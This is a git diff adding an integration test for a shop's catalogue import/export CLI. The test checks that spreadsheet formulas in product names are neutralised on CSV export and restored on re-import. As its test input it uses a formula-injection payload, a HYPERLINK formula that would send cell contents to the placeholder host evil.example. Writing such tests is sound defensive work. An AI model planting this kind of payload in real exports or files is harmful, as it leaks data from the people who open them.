@@ -8,6 +8,7 @@ import { sql } from 'kysely';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { openDatabase } from '../src/db/database.ts';
 import { migrateToLatest } from '../src/db/migrate.ts';
+import { readCsv } from '../src/use-cases/catalog-import/csv.ts';
 
 /**
  * `npm run catalogue:import` and `catalogue:export` as a shop owner runs them: real processes on a seeded SQLite
@@ -99,4 +100,39 @@ describe('npm run catalogue:import and catalogue:export', () => {
     expect(run.out).toMatch(/0 new, 0 changed, \d+ unchanged; 0 rows rejected/);
     expect(await catalogueVersion()).toBe(version);
   });
+
+  // Three commands, each a process of its own: more than the default 30 s on a busy machine.
+  it('neutralises formulas in the exported file, and importing it back restores them (issue 29, defect 6)', async () => {
+    const name = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka")';
+    const created = command('catalogue-import', [
+      file(
+        'formel.json',
+        JSON.stringify([
+          { sku: 'CLI-FORMEL', type_id: 'simple', name, tax_class_id: 2, price: 100, stock: { qty: -2 } },
+        ]),
+      ),
+    ]);
+    expect(created.status, created.out).toBe(0);
+    const path = join(dir, 'formler.csv');
+    expect(command('catalogue-export', [path]).status).toBe(0);
+    const text = readFileSync(path, 'utf8');
+    expect(text).toContain(`CLI-FORMEL,,simple,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Klicka"")"`);
+    const [header, ...records] = readCsv(text).map((r) => r.fields);
+    const row = records.find((r) => r[0] === 'CLI-FORMEL')!;
+    expect(row[header!.indexOf('qty')]).toBe('-2');
+    const again = command('catalogue-import', [path]);
+    expect(again.status, again.out).toBe(0);
+    expect(again.out).toMatch(/0 new, 0 changed, \d+ unchanged; 0 rows rejected/);
+    const handle = openDatabase({ sqlitePath: join(dir, 'hemma.sqlite') });
+    try {
+      const stored = await handle.db
+        .selectFrom('products')
+        .select('name')
+        .where('sku', '=', 'CLI-FORMEL')
+        .executeTakeFirst();
+      expect(stored?.name).toBe(name);
+    } finally {
+      await handle.close();
+    }
+  }, 90_000);
 });
